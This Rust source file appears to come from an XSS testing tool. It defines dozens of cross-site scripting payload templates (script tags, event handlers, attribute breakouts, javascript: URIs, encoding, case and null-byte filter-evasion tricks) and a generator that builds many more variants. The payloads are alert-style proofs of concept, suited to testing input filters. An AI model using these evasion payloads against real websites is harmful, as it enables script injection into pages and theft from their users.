// File: templates.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use once_cell::sync::Lazy;
use serde::Serialize;

use crate::catalog::CharacterCatalog;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum TemplateFamily {
    ScriptTag,
    EventHandler,
    AttributeBreakout,
    ProtocolHandler,
    CommentBreaker,
    Obfuscated,
    EncodedLiteral,
    NullByte,
    Stylesheet,
    DomEvasion,
    Generated,
}

/// Multi-character tokens recognized inside template fragments, longest first.
pub static VOCABULARY: Lazy<Vec<String>> = Lazy::new(|| {
    let mut tokens: Vec<String> = Vec::new();
    for group in CharacterCatalog::builtin().groups() {
        for member in &group.members {
            if member.chars().count() > 1 && !tokens.contains(member) {
                tokens.push(member.clone());
            }
        }
    }
    tokens.sort_by(|a, b| b.chars().count().cmp(&a.chars().count()));
    tokens
});

pub static TEMPLATES: Lazy<Vec<PayloadTemplate>> = Lazy::new(|| {
    use TemplateFamily::*;
    [
        ("script_tag", ScriptTag, "<script>alert(1)</script>"),
        ("script_prompt", ScriptTag, "<script>prompt(1)</script>"),
        ("img_onerror", EventHandler, "<img src=x onerror=alert(1)>"),
        ("svg_onload", EventHandler, "<svg onload=alert(1)>"),
        ("body_onload", EventHandler, "<body onload=alert(1)>"),
        ("details_ontoggle", EventHandler, "<details open ontoggle=confirm(1)>"),
        ("video_onerror", EventHandler, "<video src=x onerror=alert(1)>"),
        ("iframe_onload", EventHandler, "<iframe onload=alert(1)>"),
        ("style_onanimationend", EventHandler, "<style onanimationend=alert(1)>"),
        ("dq_onmouseover", AttributeBreakout, "\" onmouseover=\"alert(1)"),
        ("sq_onmouseover", AttributeBreakout, "' onmouseover='alert(1)"),
        ("dq_autofocus", AttributeBreakout, "\" autofocus onfocus=\"alert(1)"),
        ("dq_onerror", AttributeBreakout, "\" onerror=\"alert(1)\""),
        ("dq_close_svg", AttributeBreakout, "\"><svg onload=alert(1)>"),
        ("sq_js_string", AttributeBreakout, "';alert(1);//"),
        ("dq_js_string", AttributeBreakout, "\";alert(1);//"),
        ("js_uri", ProtocolHandler, "javascript:alert(1)"),
        ("a_href_js", ProtocolHandler, "<a href=\"javascript:alert(1)\">x</a>"),
        ("iframe_src_js", ProtocolHandler, "<iframe src=\"javascript:alert(1)\">"),
        ("data_uri", ProtocolHandler, "data:text/html,<script>alert(1)</script>"),
        ("html_comment_break", CommentBreaker, "--><script>alert(1)</script>"),
        ("js_comment_break", CommentBreaker, "*/alert(1)/*"),
        ("mixed_case_script", Obfuscated, "<ScRiPt>alert(1)</ScRiPt>"),
        ("mixed_case_img", Obfuscated, "<ImG src=x OnError=alert(1)>"),
        ("mixed_case_svg", Obfuscated, "<SvG OnLoad=alert(1)>"),
        ("svg_slash", Obfuscated, "<svg/onload=alert(1)>"),
        ("svg_inline_comment", Obfuscated, "<svg/**/onload=alert(1)>"),
        ("mixed_case_js_uri", Obfuscated, "JaVaScRiPt:alert(1)"),
        ("eval_atob", Obfuscated, "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
        ("entity_script", EncodedLiteral, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("percent_script", EncodedLiteral, "%3Cscript%3Ealert(1)%3C/script%3E"),
        ("double_script", EncodedLiteral, "%253Cscript%253Ealert(1)%253C/script%253E"),
        ("null_byte_script", NullByte, "<scr\0ipt>alert(1)</scr\0ipt>"),
        ("null_byte_svg", NullByte, "<svg\0onload=alert(1)>"),
        ("style_import_js", Stylesheet, "<style>@import 'javascript:alert(1)';</style>"),
        ("link_stylesheet_js", Stylesheet, "<link rel=stylesheet href=javascript:alert(1)>"),
        ("div_sq_background_js", Stylesheet, "<div style='background-image: url(javascript:alert(1))'>"),
        ("div_dq_background_js", Stylesheet, "<div style=\"background:url(javascript:alert(1))\">"),
        (
            "style_keyframes",
            Stylesheet,
            "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationend=\"alert(1)\"></div>",
        ),
        ("dom_eval_atob", DomEvasion, "<script>eval(atob(`YWxlcnQoMSk=`))</script>"),
        ("dom_filter_constructor", DomEvasion, "<script>[].filter.constructor('alert(1)')()</script>"),
        ("dom_settimeout", DomEvasion, "<script>setTimeout`alert\\x28document.domain\\x29`</script>"),
        ("dom_object_assign", DomEvasion, "<script>Object.assign(window,{alert:eval})('1')</script>"),
        ("dom_eval_call", DomEvasion, "<script>eval.call`${'alert(1)'}`</script>"),
        ("js_void_template", ProtocolHandler, "javascript:void(`alert(1)`)"),
        ("js_paren_alert", ProtocolHandler, "javascript:(alert)(1)"),
        ("js_filter_constructor", ProtocolHandler, "javascript:[][filter][constructor]('alert(1)')()"),
        ("js_optional_call", ProtocolHandler, "javascript:alert?.()?.['']"),
    ]
    .into_iter()
    .map(|(id, family, fragment)| PayloadTemplate::new(id, family, fragment))
    .collect()
});

/// Tags that get event-handler variants in generated templates.
const EVENT_TAGS: [&str; 3] = ["img", "svg", "iframe"];

/// Script-body wrappers: (name, before, after).
const BODY_WRAPS: [(&str, &str, &str); 3] = [
    ("comment", "/**/", "/**/"),
    ("comment_break", "/*-->", "/**/"),
    ("line_comment", "//", ""),
];

/// Combinatorial templates built from the catalog's `tags`, `event_handlers`
/// and `js_functions` groups, with case and null-byte mutations of each name.
pub fn generate_templates(catalog: &CharacterCatalog) -> Vec<PayloadTemplate> {
    let tags = tokens_of(catalog, "tags");
    let events = tokens_of(catalog, "event_handlers");
    let functions = tokens_of(catalog, "js_functions");
    let mut templates = Vec::new();

    for tag in &tags {
        for (mutation, mutated) in tag_mutations(tag) {
            for function in &functions {
                for (wrap, before, after) in BODY_WRAPS {
                    templates.push(PayloadTemplate::new(
                        &format!("gen_{}_{}_{}_{}", tag, mutation, wrap, function),
                        TemplateFamily::Generated,
                        &format!("<{}>{}{}(1){}", mutated, before, function, after),
                    ));
                }
            }
        }
        for function in &functions {
            templates.push(PayloadTemplate::new(
                &format!("gen_{}_null_close_{}", tag, function),
                TemplateFamily::Generated,
                &format!("<{}\0>{}(1)", tag, function),
            ));
            templates.push(PayloadTemplate::new(
                &format!("gen_{}_null_body_{}", tag, function),
                TemplateFamily::Generated,
                &format!("<{}>\0{}(1)", tag, function),
            ));
        }
    }

    for tag in tags.iter().filter(|t| EVENT_TAGS.contains(&t.as_str())) {
        for event in &events {
            for (mutation, ev) in event_mutations(event) {
                let id = format!("gen_{}_{}_{}", tag, event, mutation);
                templates.push(PayloadTemplate::new(
                    &format!("{}_data_attr", id),
                    TemplateFamily::Generated,
                    &format!("<{} data-{}=\"alert(1)\">", tag, ev),
                ));
                templates.push(PayloadTemplate::new(
                    &format!("{}_js_uri", id),
                    TemplateFamily::Generated,
                    &format!("<{} {}=javascript:alert(1)>", tag, ev),
                ));
                templates.push(PayloadTemplate::new(
                    &format!("{}_entity_quote", id),
                    TemplateFamily::Generated,
                    &format!("<{} {}=&quot;alert(1)&quot;>", tag, ev),
                ));
            }
        }
    }
    templates
}

fn tokens_of(catalog: &CharacterCatalog, group: &str) -> Vec<String> {
    catalog
        .group(group)
        .map(|g| {
            g.members
                .iter()
                .filter(|m| m.chars().count() > 1)
                .cloned()
                .collect()
        })
        .unwrap_or_default()
}

/// `script` -> `ScRiPt`.
fn alternate_case(name: &str) -> String {
    name.chars()
        .enumerate()
        .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

fn tag_mutations(tag: &str) -> Vec<(&'static str, String)> {
    let middle = tag
        .char_indices()
        .nth(tag.chars().count() / 2)
        .map(|(i, _)| i)
        .unwrap_or(tag.len());
    let variants = vec![
        ("plain", tag.to_string()),
        ("mixed", alternate_case(tag)),
        ("null", format!("{}\0{}", &tag[..middle], &tag[middle..])),
    ];
    distinct(variants)
}

fn event_mutations(event: &str) -> Vec<(&'static str, String)> {
    let mut variants = vec![
        ("plain", event.to_string()),
        ("mixed", alternate_case(event)),
        ("upper", event.to_ascii_uppercase()),
    ];
    if let Some(rest) = event.strip_prefix("on") {
        variants.push(("null", format!("on\0{}", rest)));
    }
    distinct(variants)
}

fn distinct(variants: Vec<(&'static str, String)>) -> Vec<(&'static str, String)> {
    let mut kept: Vec<(&'static str, String)> = Vec::new();
    for (name, value) in variants {
        if !kept.iter().any(|(_, v)| *v == value) {
            kept.push((name, value));
        }
    }
    kept
}

/// A payload skeleton, pre-split into the literals it needs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PayloadTemplate {
    pub id: String,
    pub family: TemplateFamily,
    pub fragment: String,
    pub tokens: Vec<String>,
}

impl PayloadTemplate {
    pub fn new(id: &str, family: TemplateFamily, fragment: &str) -> Self {
        Self {
            id: id.to_string(),
            family,
            fragment: fragment.to_string(),
            tokens: tokenize(fragment, &VOCABULARY),
        }
    }

    /// Distinct tokens in first-use order.
    pub fn required_literals(&self) -> Vec<&str> {
        let mut required: Vec<&str> = Vec::new();
        for token in &self.tokens {
            if !required.contains(&token.as_str()) {
                required.push(token);
            }
        }
        required
    }
}

/// Greedy longest-match split of `fragment`. Anything outside `vocabulary`
/// becomes a single-character token. `vocabulary` must be sorted longest first.
pub fn tokenize(fragment: &str, vocabulary: &[String]) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut rest = fragment;

    while let Some(c) = rest.chars().next() {
        let token = vocabulary
            .iter()
            .find(|t| rest.starts_with(t.as_str()))
            .map(String::as_str)
            .unwrap_or(&rest[..c.len_utf8()]);
        tokens.push(token.to_string());
        rest = &rest[token.len()..];
    }
    tokens
}
